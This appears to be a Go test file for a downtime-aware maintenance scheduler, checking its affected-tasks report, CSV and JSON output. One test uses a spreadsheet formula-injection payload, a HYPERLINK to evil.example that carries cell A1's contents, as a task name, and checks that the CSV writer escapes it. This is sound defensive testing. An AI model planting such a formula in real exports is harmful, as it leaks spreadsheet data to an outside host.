package afterhours

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/afterhours-go/afterhours/internal/csvsafe"

	"github.com/afterhours-go/afterhours/internal/fakeclock"
)

func TestAffectedReport(t *testing.T) {
	p, err := LoadProfile(filepath.Join("testdata", "report", "shop.profile.json"))
	require.NoError(t, err)
	rows, err := AffectedReport(p, fakeclock.Fixed(time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)), 2)
	require.NoError(t, err)
	var got []string
	for _, r := range rows {
		line := r.Day + " " + r.String()
		if r.Relation == RelationBefore {
			line += map[bool]string{true: " likely to finish", false: " not likely to finish"}[r.LikelyToFinish]
		}
		got = append(got, line)
	}
	// Worked out by hand: Tuesday's window runs from 18:30. disk is down
	// 02:00-03:00 (suppress): rotate-logs and clean-tmp are deferred.
	// vacuum-db runs 18:30-19:30 and db-check (which ignores downtimes but
	// contends on db) 19:30-19:35, both ending before db goes down at 20:00;
	// the update (40m) would run into it and is postponed to after it, 21:00.
	// The pkg-repo slot at 01:40 overlaps the network downtime 01:00-02:30
	// on Wednesday (skip). Wednesday's cycle has no downtime.
	require.Equal(t, []string{
		"2026-11-24 db 20:00-21:00 postpone: vacuum-db before likely to finish",
		"2026-11-24 db 20:00-21:00 postpone: db-check before likely to finish",
		"2026-11-24 db 20:00-21:00 postpone: pos-app-7.2.0 after",
		"2026-11-24 network 01:00-02:30 skip: fetch-packages deferred",
		"2026-11-24 disk 02:00-03:00 suppress: rotate-logs deferred",
		"2026-11-24 disk 02:00-03:00 suppress: clean-tmp deferred",
	}, got)
	require.Equal(t, time.Date(2026, 11, 24, 21, 0, 0, 0, time.UTC), rows[2].Planned.Start.UTC())

	var csvOut bytes.Buffer
	require.NoError(t, WriteAffectedCSV(&csvOut, rows))
	records, err := csv.NewReader(bytes.NewReader(csvOut.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Equal(t, affectedHeader, records[0])
	require.Len(t, records, len(rows)+1)
	for i, r := range rows {
		require.Equal(t, r.record(), records[i+1])
	}
	require.True(t, strings.HasSuffix(csvOut.String(), "\r\n"), "RFC 4180 line ends")

	js, err := json.MarshalIndent(rows, "", "  ")
	require.NoError(t, err)
	var back []map[string]any
	require.NoError(t, json.Unmarshal(js, &back))
	require.Len(t, back, len(rows))
	require.Equal(t, "vacuum-db", back[0]["task"])
	require.Equal(t, true, back[0]["likely_to_finish"])

	golden := append(csvOut.Bytes(), append([]byte("\n"), append(js, '\n')...)...)
	path := filepath.Join("testdata", "report", "shop.affected.golden")
	if *update {
		require.NoError(t, os.WriteFile(path, golden, 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "go test -run TestAffectedReport -update")
	if !bytes.Equal(golden, want) {
		t.Errorf("%s differs:\n%s", path, goldenDiff(want, golden))
	}
}

func TestEndingADowntimeEarlyReleasesWork(t *testing.T) {
	doc := func(ended string) []byte {
		return []byte(`{"client":"c","site":{"timezone":"UTC","business_hours":{"tue":["08:00-18:00"],"wed":["08:00-18:00"]}},
		  "housekeeping":[{"name":"vacuum","run":["/x"],"estimate":"30m","uses":["db"]}],
		  "resources":[{"name":"db","downtimes":[{"dates":["2026-11-24"],"from":"17:00","to":"07:00","action":"postpone"` + ended + `}]}]}`)
	}
	now := time.Date(2026, 11, 24, 20, 0, 0, 0, time.UTC)
	p, err := ParseProfile(doc(""))
	require.NoError(t, err)
	plan, err := PlanAt(p, now)
	require.NoError(t, err)
	require.Equal(t, []string{"vacuum 07:00-07:30"}, summary(plan))

	// The maintenance finished at 21:00: a new plan runs the work then.
	p, err = ParseProfile(doc(`,"ended":"2026-11-24T21:00:00Z"`))
	require.NoError(t, err)
	plan, err = PlanAt(p, now)
	require.NoError(t, err)
	require.Equal(t, []string{"vacuum 21:00-21:30"}, summary(plan))
	require.True(t, plan.Downtimes[0].Ended)
}

// TestAffectedCSVFormulaSafe checks that the affected-objects CSV never
// hands a spreadsheet a formula: a task named "=HYPERLINK(...)" (issue 11,
// item 15) is written with a "'" before it, and reads back as it was once
// that "'" is taken off; the JSON form carries the name as it is. It also
// checks that a whole-day downtime reads "00:00-24:00", on London's
// spring-forward day too, in the report and in the plan's deferrals.
func TestAffectedCSVFormulaSafe(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"details")`
	p, err := ParseProfile([]byte(`{"client":"c","site":{"timezone":"Europe/London","business_hours":{"fri":["08:00-18:00"]}},
	  "housekeeping":[{"name":` + strconv.Quote(evil) + `,"run":["/x"],"uses":["@db"]},{"name":"'quoted","run":["/y"],"uses":["@db"]}],
	  "resources":[{"name":"@db","downtimes":[{"dates":["2026-03-29"]}]}]}`))
	require.NoError(t, err)
	rows, err := AffectedReport(p, fakeclock.Fixed(time.Date(2026, 3, 28, 12, 0, 0, 0, time.UTC)), 2)
	require.NoError(t, err)
	require.Len(t, rows, 2)
	require.Equal(t, `@db 00:00-24:00 suppress: `+evil+` deferred`, rows[0].String())

	var out bytes.Buffer
	require.NoError(t, WriteAffectedCSV(&out, rows))
	records, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	require.NoError(t, err)
	for _, rec := range records[1:] {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: %q starts a formula", affectedHeader[j], cell)
			}
		}
	}
	require.Equal(t, "'@db", records[1][0])
	require.Equal(t, "'"+evil, records[1][5])
	require.Equal(t, "''quoted", records[2][5])
	require.Contains(t, records[1][13], "is down 00:00-24:00 (suppress)")
	for i, r := range rows {
		require.Equal(t, r.record(), csvsafe.UnescapeRecord(records[i+1]), "row %d reads back as written", i)
	}

	js, err := json.Marshal(rows[0])
	require.NoError(t, err)
	var back map[string]any
	require.NoError(t, json.Unmarshal(js, &back))
	require.Equal(t, evil, back["task"])
	require.Equal(t, "@db", back["resource"])
}

// The JSON form of a row has the CSV's fields in the CSV's order, with
// their JSON types.
func TestAffectedJSON(t *testing.T) {
	task := &Task{Name: "vacuum", kind: Housekeeping}
	down := Interval{Start: time.Date(2026, 11, 25, 2, 0, 0, 0, time.UTC), End: time.Date(2026, 11, 25, 3, 0, 0, 0, time.UTC)}
	before := Affected{Resource: "db", Down: down, Action: "postpone", Task: task, Day: "2026-11-24", Relation: RelationBefore,
		Planned:  Interval{Start: down.Start.Add(-time.Hour), End: down.Start.Add(-30 * time.Minute)},
		Estimate: 30 * time.Minute, LikelyToFinish: true}
	data, err := json.Marshal(before)
	require.NoError(t, err)
	require.Equal(t, `{"resource":"db","down_start":"2026-11-25T02:00:00Z","down_end":"2026-11-25T03:00:00Z","action":"postpone","ended":false,`+
		`"task":"vacuum","kind":"housekeeping","cycle":"2026-11-24","relation":"before","planned_start":"2026-11-25T01:00:00Z",`+
		`"planned_end":"2026-11-25T01:30:00Z","estimate":"30m","likely_to_finish":true}`, string(data))
	var keys []string
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.Token()
	for dec.More() {
		k, _ := dec.Token()
		keys = append(keys, k.(string))
		var v any
		require.NoError(t, dec.Decode(&v))
	}
	var csvOrder []string
	for _, h := range affectedHeader {
		if h != "detail" {
			csvOrder = append(csvOrder, h)
		}
	}
	require.Equal(t, csvOrder, keys)

	deferred := Affected{Resource: "db", Down: down, Action: "suppress", Ended: true, Task: task, Day: "2026-11-24",
		Relation: RelationDeferred, Estimate: 30 * time.Minute, Detail: "db is down 02:00-03:00 (suppress)"}
	data, err = json.Marshal(deferred)
	require.NoError(t, err)
	require.Equal(t, `{"resource":"db","down_start":"2026-11-25T02:00:00Z","down_end":"2026-11-25T03:00:00Z","action":"suppress","ended":true,`+
		`"task":"vacuum","kind":"housekeeping","cycle":"2026-11-24","relation":"deferred","estimate":"30m",`+
		`"detail":"db is down 02:00-03:00 (suppress)"}`, string(data))
}
